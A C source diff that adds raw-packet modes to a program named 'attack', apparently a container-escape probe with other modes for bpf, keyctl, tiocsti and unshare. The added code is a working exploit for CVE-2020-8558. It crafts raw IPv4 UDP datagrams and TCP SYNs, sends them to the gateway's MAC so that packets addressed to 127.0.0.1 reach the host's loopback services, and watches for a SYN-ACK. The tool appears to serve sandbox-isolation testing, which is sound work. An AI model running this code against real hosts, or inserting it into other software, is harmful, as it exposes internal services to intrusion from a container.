@@ -8,9 +8,17 @@
 #include <dirent.h>
 #include <errno.h>
 #include <fcntl.h>
+#include <arpa/inet.h>
 #include <linux/bpf.h>
+#include <linux/if_ether.h>
+#include <linux/if_packet.h>
 #include <linux/keyctl.h>
 #include <linux/perf_event.h>
+#include <net/if.h>
+#include <netinet/ip.h>
+#include <netinet/tcp.h>
+#include <netinet/udp.h>
+#include <poll.h>
 #include <sched.h>
 #include <signal.h>
 #include <stdbool.h>
@@ -21,6 +29,7 @@
 #include <sys/klog.h>
 #include <sys/mount.h>
 #include <sys/ptrace.h>
+#include <sys/socket.h>
 #include <sys/stat.h>
 #include <sys/syscall.h>
 #include <sys/sysmacros.h>
@@ -284,6 +293,194 @@ static int watch(int seconds, const char *secret) {
   return gained > 0;
 }
 
+/*
+ * Raw frames (CVE-2020-8558): an IPv4 packet built by hand and handed to eth0 addressed to
+ * the gateway's MAC, whatever its destination address. A host that routes 127.0.0.0/8 from
+ * its bridges (route_localnet) would deliver one for 127.0.0.1 to its loopback services.
+ */
+
+static uint16_t checksum(const void *data, size_t length, uint32_t sum) {
+  const uint8_t *bytes = data;
+  for (size_t i = 0; i + 1 < length; i += 2) sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
+  if (length & 1) sum += (uint32_t)bytes[length - 1] << 8;
+  while (sum >> 16) sum = (sum & 0xffff) + (sum >> 16);
+  return htons((uint16_t)~sum);
+}
+
+/* The default route's gateway (network order), from /proc/net/route. */
+static int default_gateway(struct in_addr *gateway) {
+  FILE *routes = fopen("/proc/net/route", "r");
+  if (!routes) return -1;
+  char line[256], device[IFNAMSIZ + 1];
+  unsigned int destination, via, flags;
+  int found = 0;
+  while (!found && fgets(line, sizeof line, routes))
+    if (sscanf(line, "%16s %x %x %x", device, &destination, &via, &flags) == 4 && destination == 0 &&
+        (flags & 0x2 /* RTF_GATEWAY */))
+      gateway->s_addr = via, found = 1;
+  fclose(routes);
+  if (!found) errno = ENETUNREACH;
+  return found ? 0 : -1;
+}
+
+/* Its MAC from the ARP table once complete, asking for it with a datagram to the discard port. */
+static int gateway_mac(struct in_addr gateway, struct in_addr *self, unsigned char mac[6]) {
+  int udp = socket(AF_INET, SOCK_DGRAM, 0);
+  if (udp < 0) return -1;
+  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(9), .sin_addr = gateway};
+  socklen_t length = sizeof to;
+  struct sockaddr_in local;
+  if (connect(udp, (struct sockaddr *)&to, sizeof to) < 0 ||
+      getsockname(udp, (struct sockaddr *)&local, &length) < 0) {
+    close(udp);
+    return -1;
+  }
+  *self = local.sin_addr;
+  char wanted[INET_ADDRSTRLEN];
+  inet_ntop(AF_INET, &gateway, wanted, sizeof wanted);
+  for (int attempt = 0; attempt < 50; attempt++) {
+    if (attempt % 10 == 0) send(udp, "", 0, 0);
+    FILE *arp = fopen("/proc/net/arp", "r");
+    char line[256], address[64], hw[64];
+    unsigned int type, flags;
+    while (arp && fgets(line, sizeof line, arp)) {
+      if (sscanf(line, "%63s 0x%x 0x%x %63s", address, &type, &flags, hw) == 4 &&
+          strcmp(address, wanted) == 0 && (flags & 0x2 /* ATF_COM */) &&
+          sscanf(hw, "%hhx:%hhx:%hhx:%hhx:%hhx:%hhx", &mac[0], &mac[1], &mac[2], &mac[3],
+                 &mac[4], &mac[5]) == 6) {
+        fclose(arp);
+        close(udp);
+        return 0;
+      }
+    }
+    if (arp) fclose(arp);
+    usleep(100 * 1000);
+  }
+  close(udp);
+  errno = EHOSTUNREACH;
+  return -1;
+}
+
+/* A packet socket on eth0 (the kernel adds the Ethernet header) and where to send: the gateway's MAC. */
+static int packet_socket(struct in_addr *self, struct sockaddr_ll *to) {
+  struct in_addr gateway;
+  memset(to, 0, sizeof *to);
+  to->sll_family = AF_PACKET;
+  to->sll_protocol = htons(ETH_P_IP);
+  to->sll_ifindex = (int)if_nametoindex("eth0");
+  to->sll_halen = 6;
+  if (to->sll_ifindex == 0 || default_gateway(&gateway) < 0 ||
+      gateway_mac(gateway, self, to->sll_addr) < 0)
+    return -1;
+  int fd = socket(AF_PACKET, SOCK_DGRAM, htons(ETH_P_IP));
+  if (fd < 0) return -1;
+  if (bind(fd, (struct sockaddr *)to, sizeof *to) < 0) {
+    close(fd);
+    return -1;
+  }
+  return fd;
+}
+
+static void ip_header(struct iphdr *ip, struct in_addr from, struct in_addr to, int protocol,
+                      size_t length) {
+  memset(ip, 0, sizeof *ip);
+  ip->version = 4;
+  ip->ihl = 5;
+  ip->tot_len = htons((uint16_t)length);
+  ip->id = htons((uint16_t)getpid());
+  ip->ttl = 64;
+  ip->protocol = (uint8_t)protocol;
+  ip->saddr = from.s_addr;
+  ip->daddr = to.s_addr;
+  ip->check = checksum(ip, sizeof *ip, 0);
+}
+
+/* Sends `count` copies of `packet`; "sent N" or the errno's name. */
+static int send_packets(int fd, const void *packet, size_t length, const struct sockaddr_ll *to,
+                        int count) {
+  int sent = 0;
+  for (int i = 0; i < count; i++) {
+    if (sendto(fd, packet, length, 0, (const struct sockaddr *)to, sizeof *to) < 0)
+      return report(-1);
+    sent++;
+    usleep(50 * 1000);
+  }
+  printf("sent %d", sent);
+  return 0;
+}
+
+/* A UDP datagram carrying `payload` to `address`:`port` (checksum 0: none, which IPv4 allows). */
+static int raw_udp(const char *address, const char *port, const char *payload) {
+  struct in_addr self, target;
+  struct sockaddr_ll to;
+  if (inet_pton(AF_INET, address, &target) != 1) return puts("bad address"), 2;
+  int fd = packet_socket(&self, &to);
+  if (fd < 0) return report(-1);
+  unsigned char packet[1500];
+  size_t size = strlen(payload);
+  if (size > sizeof packet - 28) return puts("payload too long"), 2;
+  struct udphdr *udp = (struct udphdr *)(packet + 20);
+  udp->source = htons(40000 + getpid() % 20000);
+  udp->dest = htons((uint16_t)atoi(port));
+  udp->len = htons((uint16_t)(8 + size));
+  udp->check = 0;
+  memcpy(packet + 28, payload, size);
+  ip_header((struct iphdr *)packet, self, target, IPPROTO_UDP, 28 + size);
+  int result = send_packets(fd, packet, 28 + size, &to, 5);
+  if (result == 0) putchar('\n');
+  close(fd);
+  return result;
+}
+
+/*
+ * A TCP SYN to `address`:`port`, then up to two seconds watching eth0 for the SYN-ACK: a
+ * listener that answered was reached. Its kernel's RST after that is the container's own.
+ */
+static int raw_syn(const char *address, const char *port) {
+  struct in_addr self, target;
+  struct sockaddr_ll to;
+  if (inet_pton(AF_INET, address, &target) != 1) return puts("bad address"), 2;
+  int fd = packet_socket(&self, &to);
+  if (fd < 0) return report(-1);
+  unsigned char packet[40];
+  struct tcphdr *tcp = (struct tcphdr *)(packet + 20);
+  memset(tcp, 0, sizeof *tcp);
+  uint16_t source = htons(40000 + getpid() % 20000);
+  tcp->source = source;
+  tcp->dest = htons((uint16_t)atoi(port));
+  tcp->seq = htonl(0x8558);
+  tcp->doff = 5;
+  tcp->syn = 1;
+  tcp->window = htons(64240);
+  struct {
+    uint32_t from, to;
+    uint8_t zero, protocol;
+    uint16_t length;
+  } pseudo = {self.s_addr, target.s_addr, 0, IPPROTO_TCP, htons(20)};
+  uint32_t sum = 0;
+  for (size_t i = 0; i < sizeof pseudo; i += 2)
+    sum += (uint32_t)(((uint8_t *)&pseudo)[i] << 8 | ((uint8_t *)&pseudo)[i + 1]);
+  tcp->check = checksum(tcp, 20, sum);
+  ip_header((struct iphdr *)packet, self, target, IPPROTO_TCP, sizeof packet);
+  if (send_packets(fd, packet, sizeof packet, &to, 3) != 0) return 1;
+  time_t until = time(NULL) + 2;
+  int answered = 0;
+  while (!answered && time(NULL) <= until) {
+    struct pollfd ready = {.fd = fd, .events = POLLIN};
+    if (poll(&ready, 1, 200) <= 0) continue;
+    unsigned char reply[1500];
+    ssize_t length = recv(fd, reply, sizeof reply, 0);
+    const struct iphdr *ip = (const struct iphdr *)reply;
+    if (length < 40 || ip->protocol != IPPROTO_TCP || ip->saddr != target.s_addr) continue;
+    const struct tcphdr *answer = (const struct tcphdr *)(reply + ip->ihl * 4);
+    if ((size_t)length >= ip->ihl * 4u + 20 && answer->dest == source && answer->syn && answer->ack)
+      answered = 1;
+  }
+  puts(answered ? ", syn-ack" : ", no answer");
+  close(fd);
+  return 0;
+}
+
 int main(int argc, char **argv) {
   setvbuf(stdout, NULL, _IOLBF, 0);
   const char *what = argc > 1 ? argv[1] : "";
@@ -303,6 +500,8 @@ int main(int argc, char **argv) {
   if (!strcmp(what, "umount")) return try_umount(a);
   if (!strcmp(what, "mknod-open")) return try_mknod_open(a, b);
   if (!strcmp(what, "tiocsti")) return try_tiocsti(a);
+  if (!strcmp(what, "raw-udp")) return raw_udp(a, b, argc > 4 ? argv[4] : "");
+  if (!strcmp(what, "raw-syn")) return raw_syn(a, b);
   if (!strcmp(what, "watch")) return watch(atoi(a), argc > 3 ? b : NULL);
   fprintf(stderr, "usage: attack bpf|perf|keyctl|session-keyring|syslog|unshare NS|...\n");
   return 2;
